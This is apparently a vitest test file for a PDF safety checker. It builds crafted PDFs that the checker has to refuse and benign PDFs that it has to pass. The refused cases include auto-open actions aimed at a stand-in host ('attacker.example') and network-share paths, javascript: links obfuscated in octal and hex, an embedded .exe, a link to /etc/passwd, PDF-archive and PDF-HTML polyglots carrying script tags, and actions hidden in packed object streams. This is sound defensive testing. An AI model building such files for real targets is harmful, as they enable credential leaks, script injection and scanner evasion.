import { deflateSync } from 'node:zlib'
import { describe, expect, test } from 'vitest'
import { verdictOn, WAYS } from '#tests/support/pdf-verdict.ts'
import { buildPdf } from '#tests/support/sample-files.ts'

/** What a PDF may do when it is opened or clicked on, in every way to write it. */

const UNC = '(\\\\\\\\attacker.example\\\\share\\\\x.pdf)'
const withObjects = (catalogue: string, ...objects: string[]) => buildPdf({ catalogue, objects })
const withPage = (page: string, ...objects: string[]) => buildPdf({ page, objects })
const annotation = (entries: string) => `/Annots [<< /Type /Annot /Rect [0 0 99 99] ${entries} >>]`
const link = (action: string) => annotation(`/Subtype /Link /A ${action}`)
const stream = (dictionary: string, bytes = 'MZ') =>
  `<< ${dictionary} /Length ${bytes.length} >>\nstream\n${bytes}\nendstream`
const before = (mark: string, inserted: string) => {
  const [head = '', ...tail] = buildPdf().toString('latin1').split(mark)
  return Buffer.from(`${head}${inserted}${mark}${tail.join(mark)}`, 'latin1')
}
/** Objects packed in a stream; `offsets`: where each begins according to the file. */
function withPack(contents: string, offsets: number[], catalogue = '', filter = '/Filter /FlateDecode'): Buffer {
  const head = offsets.map((offset, at) => `${9 + at} ${offset}`).join(' ')
  const plain = `${head} ${contents}`
  const bytes = filter ? deflateSync(Buffer.from(plain, 'latin1')).toString('latin1') : plain
  return withObjects(catalogue, stream(`/Type /ObjStm /N ${offsets.length} /First ${head.length + 1} ${filter}`, bytes))
}

const refused: Record<string, Buffer> = {
  'opens a file of a network share at once': withObjects(`/OpenAction << /S /GoToR /F ${UNC} /D [0 /Fit] >>`),
  'opens a file within another one at once': withObjects(`/OpenAction << /S /GoToE /F ${UNC} /D [0 /Fit] >>`),
  'opens a file of a network share with its page': withPage(`/AA << /O << /S /GoToR /F ${UNC} /D [0 /Fit] >> >>`),
  'opens a file of a network share by a link': withPage(link(`<< /S /GoToR /F ${UNC} >>`)),
  'opens a file by a name that is written elsewhere': withPage(link('<< /S /GoTo /F 5 0 R >>'), UNC),
  'opens an address at once': withObjects('/OpenAction << /S /URI /URI (https://attacker.example) >>'),
  'opens an address at once, written elsewhere': withObjects(
    '/OpenAction 5 0 R',
    '<< /S /URI /URI (https://attacker.example) >>',
  ),
  'opens an address at once, its kind written elsewhere': withObjects(
    '/OpenAction 5 0 R',
    '<< /S 6 0 R /URI (https://attacker.example) >>',
    '/URI',
  ),
  'opens at once what it has twice': Buffer.concat([
    withObjects('/OpenAction 5 0 R', '[4 0 R /Fit]'),
    Buffer.from('5 0 obj << /S /URI /URI (https://attacker.example) >> endobj\n%%EOF'),
  ]),
  'opens at once what bears no number to read': withObjects(
    '/OpenAction 5 0 R',
    '[4 0 R /Fit]\nendobj\n5 0 % the real one\nobj\n<< /S /URI /URI (https://attacker.example) >>',
  ),
  'opens an address after a place': withObjects(
    '/OpenAction << /S /GoTo /D [4 0 R /Fit] /Next << /S /URI /URI (https://attacker.example) >> >>',
  ),
  'opens an address with its page': withPage('/AA << /O << /S /URI /URI (https://attacker.example) >> >>'),
  'opens an address when a pointer is over a link': withPage(
    annotation('/Subtype /Link /AA << /E << /S /URI /URI (https://attacker.example) >> >>'),
  ),
  'opens an address by a button': withPage(
    annotation('/Subtype /Widget /FT /Btn /T (a) /A << /S /URI /URI (https://attacker.example) >>'),
  ),
  'links to a file of a network share': withPage(link('<< /S /URI /URI (file://attacker.example/share/x) >>')),
  'links to a file of a network share without a scheme': withPage(link(`<< /S /URI /URI ${UNC} >>`)),
  'links to a script': withPage(link('<< /S /URI /URI (javascript:app.alert\\(1\\)) >>')),
  'links to a script with a letter as a number': withPage(link('<< /S /URI /URI (j\\141vascript:1) >>')),
  'links to a script in hexadecimal': withPage(
    link(`<< /S /URI /URI <${Buffer.from('javascript:1').toString('hex')}> >>`),
  ),
  'links to an address that is written elsewhere': withPage(link('<< /S /URI /URI 5 0 R >>'), '(file:///etc/passwd)'),
  'begins its addresses with a network share': withObjects('/URI << /Base (file://attacker.example/) >>'),
  'has two kinds of action in one': withPage(link('<< /S /GoTo /S /Thread /D [4 0 R /Fit] >>')),
  'prints by itself': withObjects('/OpenAction << /S /Named /N /Print >>'),
  'reads an article of another file': withPage(link(`<< /S /Thread /F ${UNC} /D 0 >>`)),
  'shows a film': withPage(annotation(`/Subtype /Movie /Movie << /F ${UNC} >> /A true`)),
  'plays a sound': withPage(link('<< /S /Sound /Sound 5 0 R >>'), stream('/Type /Sound /R 8000')),
  'plays a sound of an annotation': withPage(annotation('/Subtype /Sound /Sound 5 0 R'), stream('/R 8000')),
  'shows bodies': withPage(annotation('/Subtype /3D /3DD 5 0 R'), stream('/Type /3D /Subtype /U3D')),
  'has a screen': withPage(annotation('/Subtype /Screen /MK << >>')),
  'has an annotation whose kind is written elsewhere': withPage(annotation('/Subtype 5 0 R'), '/Screen'),
  'has an annotation of a kind nobody knows': withPage(annotation('/Subtype /Surprise')),
  'plays what is elsewhere': withPage(
    annotation('/Subtype /Link /A << /S /Rendition /OP 0 /R << /S /MR /C << /D (http://attacker.example) >> >> >>'),
  ),
  'hides something by a link': withPage(link('<< /S /Hide /T (a) >>')),
  'empties a form by a link': withPage(link('<< /S /ResetForm >>')),
  'carries a file': withObjects(
    '/AF [5 0 R]',
    '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>',
    stream('/Type /EmbeddedFile'),
  ),
  'carries a file on a page, by names that may be left out': withPage(
    '/AF 5 0 R',
    '<< /UF <612e657865> /EF 6 0 R >>',
    '<< /F 7 0 R >>',
    stream(''),
  ),
  'is a folder of files': withObjects('/Collection << /View /T >>'),
  'has a picture that is a file of a network share': withObjects(
    '',
    stream(`/Type /XObject /Subtype /Image /F ${UNC}`),
  ),
  'has content that is a file at an address': withObjects('', stream('/F << /FS /URL /F (http://attacker.example) >>')),
  'shows a page of another file': withObjects(
    '',
    stream(`/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F ${UNC} /Page 0 >>`),
  ),
  'has a program for printers': withObjects('', stream('/Type /XObject /Subtype /PS')),
  'is an archive too': Buffer.concat([buildPdf(), Buffer.from('PK\x05\x06'), Buffer.alloc(18)]),
  'is an archive too, with the end of a PDF for a comment': Buffer.concat([
    buildPdf(),
    Buffer.from('PK\x05\x06'),
    Buffer.alloc(16),
    Buffer.from([7, 0]),
    Buffer.from('\n%%EOF\n'),
  ]),
  'has something behind its end': Buffer.concat([buildPdf(), Buffer.from('<script>alert(1)</script>')]),
  'is a page of html in its first line': Buffer.from(
    buildPdf().toString('latin1').replace('%PDF-1.7', '%PDF-1.7 <script>alert(1)</script>'),
    'latin1',
  ),
  'is a page of html in its first comment': before('1 0 obj', '% <html><script>alert(1)</script>\n'),
  'has an action within the bytes of a picture': withObjects(
    '/OpenAction 5 0 R',
    stream('/Type /XObject', 'zz\n5 0 obj << /S /GoToR /F (x) >> endobj\nzz'),
  ),
  'has an action within a string': withObjects('', '(5 0 obj << /S /Launch /F (x) >> endobj)'),
  'has an action in packed objects without a filter': withPack('<< /S /GoToR /F (x) >>', [0], '', ''),
  'has an action among packed objects where none is said to be': withPack(
    '<< >> << /S /URI /URI (file://attacker.example) >>',
    [0, 0],
  ),
  'has an action within a packed string': withPack('(<< /S /URI /URI (file://attacker.example) >>)', [0, 1]),
  'has an action in a dictionary that is out of order': withObjects('/X ) 1 ] /OpenAction << ] /S /GoToR /F (x) >>'),
}

/** A PDF and something else in one file. */
const NOT_ALONE = /^(is an archive|has something behind|is a page of html)/

test.each(Object.entries(refused))('a PDF that %s is refused', async (name, file) => {
  for (const { way, qpdf } of WAYS) {
    expect(await verdictOn(file, qpdf), way).toBe(NOT_ALONE.test(name) ? 'malformed' : 'active')
  }
})

/** Bytes as a scanner's: as good as random, and the same each time. */
function noise(length: number): Buffer {
  const bytes = Buffer.alloc(length)
  let seed = 1
  for (let at = 0; at < length; at++) {
    seed = (Math.imul(seed, 1664525) + 1013904223) >>> 0
    bytes[at] = seed >>> 24
  }
  return bytes
}

/** A scan whose bytes say by chance what a search of all bytes for names stumbles over. */
function scan(megabytes: number): Buffer {
  const bytes = noise(megabytes * 1_000_000)
  for (const [at, chance] of [
    '/JS ',
    '/AA<',
    '/Launch ',
    '/XFA\0',
    '/Encrypt ',
    'obj',
    '/EmbeddedFile\n',
    '(((',
  ].entries()) {
    bytes.write(chance, (at + 1) * 100_000, 'latin1')
  }
  return withPage(
    '/Resources << /XObject << /Im0 5 0 R >> >>',
    stream('/Type /XObject /Subtype /Image /Width 1654 /Height 2339 /Filter /DCTDecode', bytes.toString('latin1')),
  )
}

const word = '/StructTreeRoot 5 0 R /MarkInfo << /Marked true >> /Lang (ar) /Metadata 9 0 R'
const innocent: Record<string, Buffer> = {
  'is a large scan': scan(9),
  'is by LibreOffice, and opens at its first page': withObjects(
    '/PageMode /UseOutlines /OpenAction [4 0 R /XYZ null null 0] /ViewerPreferences << /DisplayDocTitle true >> /Outlines 5 0 R',
    '<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>',
    '<< /Title (My /JS and /Launch) /Parent 5 0 R /Dest [4 0 R /XYZ 0 800 0] >>',
  ),
  'is by LaTeX, with an action for its first page': withObjects(
    '/OpenAction 5 0 R /PageMode /UseOutlines /Names << /Dests 7 0 R >> /Outlines 8 0 R',
    '<< /S /GoTo /D [4 0 R /Fit] >>',
    '<< /D [4 0 R /XYZ 0 0 null] >>',
    '<< /Names [(section.1) 6 0 R] /Limits [(section.1) (section.1)] >>',
    '<< /First 9 0 R /Last 9 0 R /Count 1 >>',
    '<< /Title (One) /Parent 8 0 R /A 10 0 R >>',
    '<< /S /GoTo /D (section.1) >>',
  ),
  'is by Word, with parts of the text and links': buildPdf({
    catalogue: word,
    page: link('<< /Type /Action /S /URI /URI (https://www.uni.example/?a=1&b=\\(2\\)) >> /F 4 /StructParent 1'),
    objects: [
      '<< /Type /StructTreeRoot /K 6 0 R /RoleMap << /Textbody /P /Diagram /Figure >> >>',
      '<< /Type /StructElem /S /P /P 5 0 R /K [0 << /Type /OBJR /Obj 7 0 R >>] /A 8 0 R >>',
      '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (mailto:lina@example.com) >> >>',
      '[<< /O /Layout /Placement /Block >> << /O /Table /Scope /Column >>]',
      stream('/Type /Metadata /Subtype /XML', '<x:xmpmeta xmlns:x="adobe:ns:meta/">/JS</x:xmpmeta>'),
    ],
  }),
  'has links whose actions stand elsewhere': withPage(
    `/Annots [${['6', '7'].map((n) => `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${n} 0 R >>`).join(' ')}]`,
    'null',
    '<< /S /URI /URI (http://example.com) >>',
    '<< /S /URI /URI (tel:+962790000000) >>',
  ),
  'is a design whose colours are mixed': withPage(
    '/Group << /S /Transparency /CS /DeviceRGB >>',
    '<< /BM /Screen /ca .5 >>',
  ),
  'has letters that are called as things': withObjects(
    '',
    '<< /Type /Font /Subtype /Type3 /CharProcs 6 0 R /Encoding << /Differences [0 /AF /EF /3D /JS /AA] >> >>',
    '<< /AF 7 0 R /EF 7 0 R /3D 7 0 R /JS 7 0 R /AA 7 0 R >>',
    stream('', '0 0 d0'),
  ),
  'is signed': withObjects(
    '/AcroForm << /SigFlags 3 /Fields [5 0 R] >>',
    '<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature1) /Rect [0 0 0 0] /F 132 /V 6 0 R >>',
    '<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 1 2 3] /Contents <00> /M (D:2026) >>',
  ),
  'has notes of a teacher': withPage(annotation('/Subtype /Highlight /QuadPoints [0 0 9 0 0 9 9 9] /Contents (good)')),
  'has packed objects': withPack('<< /Type /Metadata >> << /S /GoTo /D [4 0 R /Fit] >>', [0, 22], '/OpenAction 10 0 R'),
  'turns its pages softly': withPage('/Trans << /S /Dissolve /D 1 >> /Dur 5'),
}

describe('an innocent PDF passes that', () => {
  test.each(Object.entries(innocent))('%s', async (_, file) => {
    for (const { way, qpdf } of WAYS) expect(await verdictOn(file, qpdf), way).toBe('harmless')
  })
})
